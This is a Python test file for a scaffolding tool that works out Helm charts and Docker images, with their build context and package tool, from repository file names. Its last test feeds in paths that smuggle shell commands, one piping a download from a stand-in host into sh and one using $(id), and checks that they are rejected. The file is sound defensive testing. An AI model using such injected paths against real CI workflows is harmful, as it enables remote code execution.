"""What a repository builds and installs, read from the names of its files."""

from __future__ import annotations

import pytest

from elysium.scaffold import Image, charts_in, images_in


def test_charts_are_folders_in_charts() -> None:
    files = ["charts/web/Chart.yaml", "charts/api/Chart.yaml", "charts/api/charts/sub/Chart.yaml", "charts/Chart.yaml"]
    assert charts_in(files) == ("api", "web")


@pytest.mark.parametrize(
    ("files", "image"),
    [
        (
            ["packages/api/Dockerfile", "packages/api/uv.lock"],
            Image(dockerfile="packages/api/Dockerfile", context="packages/api", folder="packages/api", tool="uv"),
        ),
        (
            ["docker/api/Dockerfile", "packages/api/go.mod"],
            Image(dockerfile="docker/api/Dockerfile", context=".", folder="packages/api", tool="go"),
        ),
        (
            ["packages/api/Dockerfile", "packages/api/Dockerfile.dockerignore", "packages/api/package-lock.json"],
            Image(dockerfile="packages/api/Dockerfile", context=".", folder="packages/api", tool="npm"),
        ),
        (["api/Dockerfile"], Image(dockerfile="api/Dockerfile", context="api")),
        (
            ["api/Dockerfile", "api/package-lock.json", "api/poetry.lock"],
            Image(dockerfile="api/Dockerfile", context="api", folder="api", tool="poetry"),
        ),
    ],
)
def test_an_image_knows_its_context_and_its_tool(files: list[str], image: Image) -> None:
    assert images_in(files) == {"api": image}


def test_a_dockerfile_at_the_top_is_called_as_the_project() -> None:
    assert list(images_in(["Dockerfile"], "shop")) == ["shop"]
    assert list(images_in(["Dockerfile"])) == ["app"]


def test_what_cannot_be_a_name_is_no_image() -> None:
    assert images_in(["My Images/Dockerfile", "a_b/Dockerfile", "a/Dockerfile.md"]) == {}


def test_paths_that_would_steer_a_script_are_left_out() -> None:
    """Whoever opens a pull request names folders; a workflow that is generated later must not run the names."""
    assert images_in(['x"; curl evil | sh #/app/Dockerfile', "$(id)/web/Dockerfile", "good/api/Dockerfile"]).keys() == {
        "api"
    }
